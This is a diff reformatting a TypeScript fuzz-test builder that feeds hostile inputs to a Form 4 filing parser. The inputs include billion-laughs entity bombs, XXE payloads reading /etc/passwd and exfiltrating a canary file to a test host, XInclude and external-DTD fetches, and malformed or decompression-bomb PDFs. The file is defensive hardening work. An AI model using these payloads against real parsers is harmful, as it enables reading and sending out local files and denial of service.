@@ -121,7 +121,8 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   const add = (c: Omit<FuzzCase, 'family'>, family: FuzzCase['family'] = 'hostile'): void => {
     cases.push({ ...c, family });
   };
-  const s = (name: string, make: () => string, extra: Partial<FuzzCase> = {}): void => add({ name, build: () => fromLatin1(make()), ...extra });
+  const s = (name: string, make: () => string, extra: Partial<FuzzCase> = {}): void =>
+    add({ name, build: () => fromLatin1(make()), ...extra });
 
   if (o.selfTest) {
     add({ name: 'self-test-crash', build: () => Buffer.from('<x/>'), selfTest: 'crash' });
@@ -131,7 +132,9 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   // ---- hostile: sizes and limits -------------------------------------------------------------------------------
   const MAX = 25 * 1024 * 1024;
   const overLimit = (r: { ok: boolean; reason?: string }): string | null =>
-    !r.ok && /limit/.test(r.reason ?? '') ? null : `expected the size-limit reason, got ${r.ok ? 'a filing' : JSON.stringify(r.reason)}`;
+    !r.ok && /limit/.test(r.reason ?? '')
+      ? null
+      : `expected the size-limit reason, got ${r.ok ? 'a filing' : JSON.stringify(r.reason)}`;
   s('empty', () => '');
   s('one-byte-lt', () => '<');
   s('only-bom', () => '\xef\xbb\xbf');
@@ -142,7 +145,10 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   s('unclosed-doctype', () => '<!DOCTYPE ownershipDocument [ <!ENTITY a "' + 'x'.repeat(100_000));
   s('over-size-limit', () => X() + ' '.repeat(MAX + 1 - read(xmlPath).length), { expect: overLimit });
   s('at-size-limit-whitespace', () => X() + ' '.repeat(MAX - read(xmlPath).length));
-  s('at-size-limit-comment', () => { const x = X(); return x + '<!--' + 'c'.repeat(MAX - x.length - 7) + '-->'; });
+  s('at-size-limit-comment', () => {
+    const x = X();
+    return x + '<!--' + 'c'.repeat(MAX - x.length - 7) + '-->';
+  });
   s('lt-flood-25mb', () => '<'.repeat(MAX));
   s('lt-flood-in-document', () => withRemarks(X(), '< '.repeat(1_000_000)));
   s('amp-flood-in-document', () => withRemarks(X(), '&'.repeat(2_000_000)));
@@ -157,8 +163,15 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   s('comment-flood', () => withRemarks(X(), '<!---->'.repeat(500_000)));
   s('cdata-flood', () => withRemarks(X(), '<![CDATA[]]>'.repeat(500_000)));
   s('bad-markup-flood', () => withRemarks(X(), '<!x>'.repeat(500_000)));
-  s('attribute-flood', () => after(X(), 'ownershipDocument', '').replace('<ownershipDocument', '<ownershipDocument' + Array.from({ length: 200_000 }, (_, i) => ` a${i}="v"`).join('')));
-  s('duplicate-attribute-flood', () => X().replace('<ownershipDocument', '<ownershipDocument' + ' a="v"'.repeat(200_000)));
+  s('attribute-flood', () =>
+    after(X(), 'ownershipDocument', '').replace(
+      '<ownershipDocument',
+      '<ownershipDocument' + Array.from({ length: 200_000 }, (_, i) => ` a${i}="v"`).join(''),
+    ),
+  );
+  s('duplicate-attribute-flood', () =>
+    X().replace('<ownershipDocument', '<ownershipDocument' + ' a="v"'.repeat(200_000)),
+  );
   s('unquoted-attribute-flood', () => X().replace('<ownershipDocument', '<ownershipDocument' + ' a=v'.repeat(200_000)));
   s('element-count-flood', () => withRemarks(X(), '<a/>'.repeat(1_000_000)));
   s('element-count-flood-nested-pairs', () => withRemarks(X(), '<a></a>'.repeat(800_000)));
@@ -169,9 +182,17 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   s('huge-footnote-5mb', () => X().replace(/(<footnote id="F1">)/, '$1' + 'y '.repeat(FIVE / 2)));
   s('huge-owner-name-5mb', () => withValue(X(), 'rptOwnerName', 'N'.repeat(FIVE)));
   s('huge-decimal-5mb', () => withValue(X(), 'transactionShares', '9'.repeat(FIVE)));
-  s('huge-decimals-shares-price', () => withValue(withValue(X(), 'transactionShares', '9'.repeat(1_000_000)), 'transactionPricePerShare', '9'.repeat(1_000_000)));
+  s('huge-decimals-shares-price', () =>
+    withValue(
+      withValue(X(), 'transactionShares', '9'.repeat(1_000_000)),
+      'transactionPricePerShare',
+      '9'.repeat(1_000_000),
+    ),
+  );
   s('huge-fraction-digits', () => withValue(X(), 'sharesOwnedFollowingTransaction', '1.' + '3'.repeat(1_000_000)));
-  s('huge-exponent', () => withValue(withValue(X(), 'transactionShares', '1e999999999'), 'transactionPricePerShare', '1E-999999999'));
+  s('huge-exponent', () =>
+    withValue(withValue(X(), 'transactionShares', '1e999999999'), 'transactionPricePerShare', '1E-999999999'),
+  );
   s('huge-date-5mb', () => withValue(X(), 'transactionDate', '2'.repeat(FIVE)));
   s('huge-code-5mb', () => withValue(X(), 'transactionCode', 'S'.repeat(FIVE)));
   s('huge-security-title-5mb', () => withValue(X(), 'securityTitle', 'Common '.repeat(FIVE / 7)));
@@ -179,14 +200,22 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   s('huge-footnote-id-1mb', () => X().replace(/id="F1"/g, `id="F${'1'.repeat(1_000_000)}"`));
   s('huge-element-name-1mb', () => withRemarks(X(), `<${'n'.repeat(1_000_000)}>t</${'n'.repeat(1_000_000)}>`));
   s('huge-whitespace-between-tags', () => X().replace(/>\s*</g, '>' + ' '.repeat(20_000) + '<'));
-  s('huge-single-line-file', () => X().replace(/[\r\n]+/g, ' ').padEnd(4_000_000, ' '));
+  s('huge-single-line-file', () =>
+    X()
+      .replace(/[\r\n]+/g, ' ')
+      .padEnd(4_000_000, ' '),
+  );
   // Deep nesting.
   s('deep-nesting-100k-root', () => '<a>'.repeat(100_000) + '</a>'.repeat(100_000));
   s('deep-nesting-100k-in-document', () => withRemarks(X(), '<a>'.repeat(100_000) + 'deep' + '</a>'.repeat(100_000)));
   s('deep-nesting-100k-unclosed', () => after(X(), 'ownershipDocument', '<a>'.repeat(100_000)));
   s('deep-nesting-1m-unclosed-root', () => '<ownershipDocument>' + '<v>'.repeat(1_000_000));
-  s('deep-nesting-values', () => withValue(X(), 'transactionShares', '<value>'.repeat(50_000) + '5' + '</value>'.repeat(50_000)));
-  s('deep-nesting-footnote', () => X().replace(/(<footnote id="F1">)/, '$1' + '<b>'.repeat(100_000) + 'x' + '</b>'.repeat(100_000)));
+  s('deep-nesting-values', () =>
+    withValue(X(), 'transactionShares', '<value>'.repeat(50_000) + '5' + '</value>'.repeat(50_000)),
+  );
+  s('deep-nesting-footnote', () =>
+    X().replace(/(<footnote id="F1">)/, '$1' + '<b>'.repeat(100_000) + 'x' + '</b>'.repeat(100_000)),
+  );
   // Entity expansion bombs: a DOCTYPE is never interpreted.
   const lol = (): string => {
     let d = '<!ENTITY lol0 "lol">\n';
@@ -195,31 +224,98 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   };
   const withDoctype = (subset: string, body: (x: string) => string = (x) => x): string =>
     XML_DECL + `<!DOCTYPE ownershipDocument [\n${subset}]>\n` + body(X().replace(/^\s*<\?xml[^>]*\?>\s*/, ''));
-  s('billion-laughs', () => withDoctype(lol(), (x) => withValue(withRemarks(x, '&lol12;'.repeat(100)), 'rptOwnerName', '&lol12;')));
-  s('quadratic-blowup', () => withDoctype(`<!ENTITY big "${'A'.repeat(200_000)}">\n`, (x) => withRemarks(x, '&big;'.repeat(50_000))));
-  s('parameter-entity-bomb', () => withDoctype('<!ENTITY % p0 "x">' + Array.from({ length: 20 }, (_, i) => `<!ENTITY % p${i + 1} "%p${i};%p${i};">`).join('') + '%p20;', (x) => withRemarks(x, 'r')));
+  s('billion-laughs', () =>
+    withDoctype(lol(), (x) => withValue(withRemarks(x, '&lol12;'.repeat(100)), 'rptOwnerName', '&lol12;')),
+  );
+  s('quadratic-blowup', () =>
+    withDoctype(`<!ENTITY big "${'A'.repeat(200_000)}">\n`, (x) => withRemarks(x, '&big;'.repeat(50_000))),
+  );
+  s('parameter-entity-bomb', () =>
+    withDoctype(
+      '<!ENTITY % p0 "x">' +
+        Array.from({ length: 20 }, (_, i) => `<!ENTITY % p${i + 1} "%p${i};%p${i};">`).join('') +
+        '%p20;',
+      (x) => withRemarks(x, 'r'),
+    ),
+  );
   s('recursive-entity', () => withDoctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', (x) => withRemarks(x, '&a;')));
   // External entities and other ways of reaching out: nothing may be read or fetched.
   const xxe = (name: string, subset: string, use: string): void =>
-    s(name, () => withDoctype(subset, (x) => withValue(withRemarks(x, use), 'rptOwnerName', use)), { mustNotContain: leak });
+    s(name, () => withDoctype(subset, (x) => withValue(withRemarks(x, use), 'rptOwnerName', use)), {
+      mustNotContain: leak,
+    });
   xxe('xxe-etc-passwd', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', '&xxe;');
   xxe('xxe-canary-file', `<!ENTITY xxe SYSTEM "file://${o.canaryPath}">`, '&xxe;');
   xxe('xxe-canary-relative', `<!ENTITY xxe SYSTEM "${o.canaryPath}">`, '&xxe;');
   xxe('xxe-http', `<!ENTITY xxe SYSTEM "${http}/xxe-http">`, '&xxe;');
   xxe('xxe-public-http', `<!ENTITY xxe PUBLIC "-//X//EN" "${http}/xxe-public">`, '&xxe;');
   xxe('xxe-parameter-entity-http', `<!ENTITY % remote SYSTEM "${http}/xxe-param"> %remote;`, 'r');
-  xxe('xxe-parameter-entity-file', `<!ENTITY % file SYSTEM "file://${o.canaryPath}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '${http}/xxe-exfil?%file;'>"> %eval; %exfil;`, 'r');
-  s('external-dtd-http', () => XML_DECL + `<!DOCTYPE ownershipDocument SYSTEM "${http}/external-dtd">\n` + X().replace(/^\s*<\?xml[^>]*\?>\s*/, ''), { mustNotContain: leak });
-  s('xinclude-file', () => withRemarks(X(), `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${o.canaryPath}" parse="text"/>`), { mustNotContain: leak });
-  s('xinclude-http', () => withRemarks(X(), `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${http}/xinclude" parse="text"/>`), { mustNotContain: leak });
-  s('xml-stylesheet-http', () => `<?xml-stylesheet type="text/xsl" href="${http}/stylesheet"?>\n` + X(), { mustNotContain: leak });
-  s('schema-location-http', () => X().replace('<ownershipDocument', `<ownershipDocument xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${http}/schema.xsd"`), { mustNotContain: leak });
-  s('html-external-resources', () => H().replace('<head>', `<head><link rel="stylesheet" href="${http}/css"><script src="${http}/js"></script><base href="${http}/">`).replace('</body>', `<img src="${http}/img"><iframe src="file://${o.canaryPath}"></iframe></body>`), { mustNotContain: leak });
+  xxe(
+    'xxe-parameter-entity-file',
+    `<!ENTITY % file SYSTEM "file://${o.canaryPath}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '${http}/xxe-exfil?%file;'>"> %eval; %exfil;`,
+    'r',
+  );
+  s(
+    'external-dtd-http',
+    () =>
+      XML_DECL +
+      `<!DOCTYPE ownershipDocument SYSTEM "${http}/external-dtd">\n` +
+      X().replace(/^\s*<\?xml[^>]*\?>\s*/, ''),
+    { mustNotContain: leak },
+  );
+  s(
+    'xinclude-file',
+    () =>
+      withRemarks(
+        X(),
+        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${o.canaryPath}" parse="text"/>`,
+      ),
+    { mustNotContain: leak },
+  );
+  s(
+    'xinclude-http',
+    () =>
+      withRemarks(X(), `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${http}/xinclude" parse="text"/>`),
+    { mustNotContain: leak },
+  );
+  s('xml-stylesheet-http', () => `<?xml-stylesheet type="text/xsl" href="${http}/stylesheet"?>\n` + X(), {
+    mustNotContain: leak,
+  });
+  s(
+    'schema-location-http',
+    () =>
+      X().replace(
+        '<ownershipDocument',
+        `<ownershipDocument xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${http}/schema.xsd"`,
+      ),
+    { mustNotContain: leak },
+  );
+  s(
+    'html-external-resources',
+    () =>
+      H()
+        .replace(
+          '<head>',
+          `<head><link rel="stylesheet" href="${http}/css"><script src="${http}/js"></script><base href="${http}/">`,
+        )
+        .replace('</body>', `<img src="${http}/img"><iframe src="file://${o.canaryPath}"></iframe></body>`),
+    { mustNotContain: leak },
+  );
   // NUL bytes and garbage.
   s('nul-in-value', () => withValue(X(), 'rptOwnerName', 'A\x00B'));
-  s('nul-after-8kb', () => { const x = X(); return x.slice(0, 9000) + '\x00' + x.slice(9000); });
+  s('nul-after-8kb', () => {
+    const x = X();
+    return x.slice(0, 9000) + '\x00' + x.slice(9000);
+  });
   s('nul-flood', () => '\x00'.repeat(1_000_000));
-  s('control-chars', () => withRemarks(X(), Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('').repeat(100)));
+  s('control-chars', () =>
+    withRemarks(
+      X(),
+      Array.from({ length: 32 }, (_, i) => String.fromCharCode(i))
+        .join('')
+        .repeat(100),
+    ),
+  );
   const rnd = (seed: number, n: number, ascii = false): string => {
     const r = new Rng(seed);
     let out = '';
@@ -230,7 +326,28 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   s('random-ascii-1mb', () => rnd(o.seed + 1, 1_000_000, true));
   s('random-markup-soup', () => {
     const r = new Rng(o.seed + 2);
-    const toks = ['<', '>', '</', '/>', 'ownershipDocument', 'value', 'footnoteId id="F1"', '&amp;', '&', '"', '=', ' ', '\n', '<![CDATA[', ']]>', '<!--', '-->', '<?', '?>', 'x'];
+    const toks = [
+      '<',
+      '>',
+      '</',
+      '/>',
+      'ownershipDocument',
+      'value',
+      'footnoteId id="F1"',
+      '&amp;',
+      '&',
+      '"',
+      '=',
+      ' ',
+      '\n',
+      '<![CDATA[',
+      ']]>',
+      '<!--',
+      '-->',
+      '<?',
+      '?>',
+      'x',
+    ];
     let out = '';
     while (out.length < 500_000) out += r.pick(toks);
     return out;
@@ -245,24 +362,56 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
     const el = elementRanges(x).find((e) => e.name === 'nonDerivativeTransaction');
     if (!el) throw new Error('no row');
     const row = x.slice(el.start, el.end);
-    const rows = Array.from({ length: 300 }, (_, i) => withValue(withValue(row, 'transactionShares', String(i * 7 + 1)), 'sharesOwnedFollowingTransaction', String((i * 7919) % 1000))).join('');
+    const rows = Array.from({ length: 300 }, (_, i) =>
+      withValue(
+        withValue(row, 'transactionShares', String(i * 7 + 1)),
+        'sharesOwnedFollowingTransaction',
+        String((i * 7919) % 1000),
+      ),
+    ).join('');
     return x.slice(0, el.start) + rows + x.slice(el.end);
   });
   s('owners-3000', () => repeatElement(X(), 'reportingOwner', 3000));
   s('footnotes-5000', () => repeatElement(X(), 'footnote', 5000));
-  s('footnote-refs-50000', () => withValue(X(), 'transactionShares', '5</value>' + '<footnoteId id="F1"/>'.repeat(50_000) + '<value>'));
+  s('footnote-refs-50000', () =>
+    withValue(X(), 'transactionShares', '5</value>' + '<footnoteId id="F1"/>'.repeat(50_000) + '<value>'),
+  );
   s('signatures-5000', () => repeatElement(X(), 'ownerSignature', 5000));
-  s('documents-nested', () => { const x = X().replace(/^\s*<\?xml[^>]*\?>\s*/, ''); return x.replace('</ownershipDocument>', x + '</ownershipDocument>'); });
+  s('documents-nested', () => {
+    const x = X().replace(/^\s*<\?xml[^>]*\?>\s*/, '');
+    return x.replace('</ownershipDocument>', x + '</ownershipDocument>');
+  });
   s('documents-200-concatenated', () => X().repeat(200));
   // EDGAR submissions.
   s('submission-header-only', () => S().slice(0, S().indexOf('<DOCUMENT>')));
   s('submission-xml-unclosed', () => S().replace(/<\/XML>/g, ''));
   s('submission-xml-nested', () => S().replace('<XML>', '<XML>\n<XML>\n'));
-  s('submission-many-documents', () => { const x = S(); const i = x.indexOf('<DOCUMENT>'); const j = x.indexOf('</DOCUMENT>') + 11; return x.slice(0, j) + x.slice(i, j).repeat(Math.min(10_000, Math.floor(20_000_000 / Math.max(1, j - i)))) + x.slice(j); });
+  s('submission-many-documents', () => {
+    const x = S();
+    const i = x.indexOf('<DOCUMENT>');
+    const j = x.indexOf('</DOCUMENT>') + 11;
+    return (
+      x.slice(0, j) + x.slice(i, j).repeat(Math.min(10_000, Math.floor(20_000_000 / Math.max(1, j - i)))) + x.slice(j)
+    );
+  });
   s('submission-100000-xml-markers', () => S().replace('<XML>', '<XML>'.repeat(100_000)));
-  s('submission-header-long-line', () => S().replace('CONFORMED SUBMISSION TYPE:', 'COMPANY CONFORMED NAME:' + 'Z'.repeat(FIVE) + '\nCONFORMED SUBMISSION TYPE:'));
-  s('submission-100000-owner-sections', () => { const x = S(); const m = /REPORTING-OWNER:[\s\S]*?(?=\n\S|\n\n(?:ISSUER|REPORTING|<))/.exec(x); return m ? x.replace(m[0], m[0].repeat(50_000)) : x; });
-  s('submission-pem-unclosed', () => '-----BEGIN PRIVACY-ENHANCED MESSAGE-----\nProc-Type: 2001,MIC-CLEAR\n' + S().replace(/-----END PRIVACY-ENHANCED MESSAGE-----/g, ''));
+  s('submission-header-long-line', () =>
+    S().replace(
+      'CONFORMED SUBMISSION TYPE:',
+      'COMPANY CONFORMED NAME:' + 'Z'.repeat(FIVE) + '\nCONFORMED SUBMISSION TYPE:',
+    ),
+  );
+  s('submission-100000-owner-sections', () => {
+    const x = S();
+    const m = /REPORTING-OWNER:[\s\S]*?(?=\n\S|\n\n(?:ISSUER|REPORTING|<))/.exec(x);
+    return m ? x.replace(m[0], m[0].repeat(50_000)) : x;
+  });
+  s(
+    'submission-pem-unclosed',
+    () =>
+      '-----BEGIN PRIVACY-ENHANCED MESSAGE-----\nProc-Type: 2001,MIC-CLEAR\n' +
+      S().replace(/-----END PRIVACY-ENHANCED MESSAGE-----/g, ''),
+  );
   s('submission-sec-header-flood', () => '<SEC-HEADER>'.repeat(1_000_000));
   s('submission-crlf', () => S().replace(/\r?\n/g, '\r\n'));
   s('submission-cr-only', () => S().replace(/\r?\n/g, '\r'));
@@ -273,11 +422,23 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   s('html-unclosed-everything', () => H().replace(/<\/[a-z]+>/gi, ''));
   s('html-cell-5mb', () => H().replace(/<td([^>]*)>/i, `<td$1>${'c'.repeat(FIVE)}`));
   s('html-rows-100k', () => H().replace(/<\/table>/i, '<tr><td>1</td><td>2</td></tr>'.repeat(100_000) + '</table>'));
-  s('html-script-with-tags', () => H().replace('</body>', '<script>document.write("</td></tr></table>")</script><style>td{}</style></body>'));
+  s('html-script-with-tags', () =>
+    H().replace('</body>', '<script>document.write("</td></tr></table>")</script><style>td{}</style></body>'),
+  );
   s('html-comment-unclosed', () => H().replace('<body', '<!-- <body'));
   // Plain/OCR text of a form.
-  s('form-text-long-lines', () => 'FORM 4\nUNITED STATES SECURITIES AND EXCHANGE COMMISSION\nStatement of Changes in Beneficial Ownership\n' + ('1. Name and Address of Reporting Person* ' + 'Q'.repeat(1_000_000) + '\n').repeat(3));
-  s('form-text-many-lines', () => 'FORM 4\nSTATEMENT OF CHANGES IN BENEFICIAL OWNERSHIP OF SECURITIES\nTable I - Non-Derivative Securities Acquired, Disposed of, or Beneficially Owned\n' + 'Common Stock 01/02/2024 S 100 D $1.00 1,000 D\n'.repeat(200_000));
+  s(
+    'form-text-long-lines',
+    () =>
+      'FORM 4\nUNITED STATES SECURITIES AND EXCHANGE COMMISSION\nStatement of Changes in Beneficial Ownership\n' +
+      ('1. Name and Address of Reporting Person* ' + 'Q'.repeat(1_000_000) + '\n').repeat(3),
+  );
+  s(
+    'form-text-many-lines',
+    () =>
+      'FORM 4\nSTATEMENT OF CHANGES IN BENEFICIAL OWNERSHIP OF SECURITIES\nTable I - Non-Derivative Securities Acquired, Disposed of, or Beneficially Owned\n' +
+      'Common Stock 01/02/2024 S 100 D $1.00 1,000 D\n'.repeat(200_000),
+  );
   // PDFs (the reader runs with its own time limit; see src/core/pdf).
   const p = (name: string, make: () => Buffer): void => add({ name, build: make });
   p('pdf-header-only', () => Buffer.from('%PDF-1.7\n'));
@@ -285,29 +446,79 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   p('pdf-random-64kb', () => fromLatin1('%PDF-1.4\n' + rnd(o.seed + 11, 65_536)));
   p('pdf-random-2mb', () => fromLatin1('%PDF-1.4\n' + rnd(o.seed + 12, 2_000_000)));
   p('pdf-junk-before-header', () => Buffer.concat([fromLatin1(rnd(o.seed + 13, 1000)), read(pdfPath)]));
-  p('pdf-minimal-text', () => onePage(textOp(72, 720, 'FORM 4') + textOp(72, 700, 'Statement of Changes in Beneficial Ownership')));
+  p('pdf-minimal-text', () =>
+    onePage(textOp(72, 720, 'FORM 4') + textOp(72, 700, 'Statement of Changes in Beneficial Ownership')),
+  );
   p('pdf-flate-bomb-64mb', () => onePage(Buffer.alloc(64 * 1024 * 1024, 0x20), { flate: true }));
-  p('pdf-text-ops-50000', () => onePage(Array.from({ length: 50_000 }, (_, i) => textOp(10 + (i % 50) * 11, 10 + ((i * 7) % 770), `t${i}`, 6)).join('')));
-  p('pdf-text-ops-same-spot-20000', () => onePage(Array.from({ length: 20_000 }, () => textOp(100, 400, 'Common Stock 01/02/2024 S 100 D $1.00')).join('')));
+  p('pdf-text-ops-50000', () =>
+    onePage(
+      Array.from({ length: 50_000 }, (_, i) => textOp(10 + (i % 50) * 11, 10 + ((i * 7) % 770), `t${i}`, 6)).join(''),
+    ),
+  );
+  p('pdf-text-ops-same-spot-20000', () =>
+    onePage(Array.from({ length: 20_000 }, () => textOp(100, 400, 'Common Stock 01/02/2024 S 100 D $1.00')).join('')),
+  );
   p('pdf-page-count-lie', () => onePage(textOp(72, 700, 'FORM 4'), { count: 1_000_000_000 }));
-  p('pdf-page-tree-loop', () => buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>']));
-  p('pdf-deep-array-100k', () => onePage(textOp(72, 700, 'FORM 4'), { pageExtra: '/Deep ' + '['.repeat(100_000) + ']'.repeat(100_000) }));
-  p('pdf-deep-dict-50k', () => onePage(textOp(72, 700, 'FORM 4'), { pageExtra: '/Deep ' + '<< /A '.repeat(50_000) + '1' + ' >>'.repeat(50_000) }));
+  p('pdf-page-tree-loop', () =>
+    buildPdf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
+    ]),
+  );
+  p('pdf-deep-array-100k', () =>
+    onePage(textOp(72, 700, 'FORM 4'), { pageExtra: '/Deep ' + '['.repeat(100_000) + ']'.repeat(100_000) }),
+  );
+  p('pdf-deep-dict-50k', () =>
+    onePage(textOp(72, 700, 'FORM 4'), { pageExtra: '/Deep ' + '<< /A '.repeat(50_000) + '1' + ' >>'.repeat(50_000) }),
+  );
   p('pdf-deep-content-q-100k', () => onePage('q '.repeat(100_000) + textOp(72, 700, 'FORM 4') + 'Q '.repeat(100_000)));
-  p('pdf-xref-loop', () => { const b = latin1(onePage(textOp(72, 700, 'FORM 4'))); const at = b.lastIndexOf('xref'); return fromLatin1(b.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${at}`)); });
-  p('pdf-xref-wrong-offsets', () => buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'], { xrefOffsetDelta: 17 }));
-  p('pdf-encrypted-unknown-password', () => fromLatin1(latin1(onePage(textOp(72, 700, 'FORM 4'))).replace('/Root 1 0 R', `/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> /P -4 >> /ID [<${'01'.repeat(16)}> <${'01'.repeat(16)}>]`)));
-  p('pdf-nan-coordinates', () => fromLatin1(latin1(onePage('BT /F1 1e308 Tf 1e308 -1e308 Td (FORM 4) Tj ET BT /F1 0 Tf 0 0 0 0 0 0 Tm (x) Tj ET', { pageExtra: '/Rotate 45' })).replace('[0 0 612 792]', '[0 0 1e308 -1e308]')));
-  p('pdf-font-garbage', () => buildPdf([
-    '<< /Type /Catalog /Pages 2 0 R >>',
-    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
-    '<< /Type /Font /Subtype /TrueType /BaseFont /Junk /FirstChar 0 /LastChar 255 /Widths [] /FontDescriptor 6 0 R /ToUnicode 7 0 R >>',
-    stream(textOp(72, 700, 'FORM 4 garbage font')),
-    '<< /Type /FontDescriptor /FontName /Junk /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 /FontFile2 8 0 R >>',
-    stream('/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange 99999999 beginbfrange <00> <FF> <0000> endbfrange endcmap'),
-    stream(fromLatin1(rnd(o.seed + 14, 30_000))),
-  ]));
+  p('pdf-xref-loop', () => {
+    const b = latin1(onePage(textOp(72, 700, 'FORM 4')));
+    const at = b.lastIndexOf('xref');
+    return fromLatin1(b.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${at}`));
+  });
+  p('pdf-xref-wrong-offsets', () =>
+    buildPdf(
+      [
+        '<< /Type /Catalog /Pages 2 0 R >>',
+        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
+      ],
+      { xrefOffsetDelta: 17 },
+    ),
+  );
+  p('pdf-encrypted-unknown-password', () =>
+    fromLatin1(
+      latin1(onePage(textOp(72, 700, 'FORM 4'))).replace(
+        '/Root 1 0 R',
+        `/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> /P -4 >> /ID [<${'01'.repeat(16)}> <${'01'.repeat(16)}>]`,
+      ),
+    ),
+  );
+  p('pdf-nan-coordinates', () =>
+    fromLatin1(
+      latin1(
+        onePage('BT /F1 1e308 Tf 1e308 -1e308 Td (FORM 4) Tj ET BT /F1 0 Tf 0 0 0 0 0 0 Tm (x) Tj ET', {
+          pageExtra: '/Rotate 45',
+        }),
+      ).replace('[0 0 612 792]', '[0 0 1e308 -1e308]'),
+    ),
+  );
+  p('pdf-font-garbage', () =>
+    buildPdf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
+      '<< /Type /Font /Subtype /TrueType /BaseFont /Junk /FirstChar 0 /LastChar 255 /Widths [] /FontDescriptor 6 0 R /ToUnicode 7 0 R >>',
+      stream(textOp(72, 700, 'FORM 4 garbage font')),
+      '<< /Type /FontDescriptor /FontName /Junk /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 /FontFile2 8 0 R >>',
+      stream(
+        '/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange 99999999 beginbfrange <00> <FF> <0000> endbfrange endcmap',
+      ),
+      stream(fromLatin1(rnd(o.seed + 14, 30_000))),
+    ]),
+  );
   p('pdf-61-pages', () => manyPages(61));
   p('pdf-60-pages', () => manyPages(60));
 
@@ -318,7 +529,14 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   const pdfSample = o.ci ? pdfFiles.filter((_, i) => i % 4 === 0) : pdfFiles;
   for (const f of pdfSample) {
     const fracs = o.ci ? [0.5] : [0.05, 0.3, 0.6, 0.95];
-    for (const fr of fracs) add({ name: `pdf-truncate-${Math.round(fr * 100)}%:${short(f)}`, build: () => read(f).subarray(0, Math.floor(read(f).length * fr)) }, 'pdf');
+    for (const fr of fracs)
+      add(
+        {
+          name: `pdf-truncate-${Math.round(fr * 100)}%:${short(f)}`,
+          build: () => read(f).subarray(0, Math.floor(read(f).length * fr)),
+        },
+        'pdf',
+      );
     const variants = o.ci ? 2 : 6;
     for (let k = 0; k < variants; k++) {
       const idx = cases.length;
@@ -332,14 +550,19 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
             if (k % 3 === 0) {
               // Damage bytes inside stream data (compressed content).
               const starts: number[] = [];
-              for (let i = t.indexOf('stream'); i !== -1 && starts.length < 5000; i = t.indexOf('stream', i + 6)) starts.push(i + 7);
-              for (let j = 0; j < 20 && starts.length; j++) b[Math.min(b.length - 1, r.pick(starts) + r.int(200))] = r.int(256);
+              for (let i = t.indexOf('stream'); i !== -1 && starts.length < 5000; i = t.indexOf('stream', i + 6))
+                starts.push(i + 7);
+              for (let j = 0; j < 20 && starts.length; j++)
+                b[Math.min(b.length - 1, r.pick(starts) + r.int(200))] = r.int(256);
               return b;
             }
             if (k % 3 === 1) {
               // Damage the cross-reference table / trailer.
               const x = Math.max(0, t.lastIndexOf('xref'));
-              for (let j = 0; j < 10; j++) b[Math.min(b.length - 1, x + r.int(Math.max(1, b.length - x)))] = r.pick([0x30, 0x39, 0x20, 0x0a, 0x00, 0xff]);
+              for (let j = 0; j < 10; j++)
+                b[Math.min(b.length - 1, x + r.int(Math.max(1, b.length - x)))] = r.pick([
+                  0x30, 0x39, 0x20, 0x0a, 0x00, 0xff,
+                ]);
               return b;
             }
             // Keep the header, replace everything after it with random bytes of the same length.
@@ -354,11 +577,16 @@ export function buildCases(o: FuzzOptions): FuzzCase[] {
   }
 
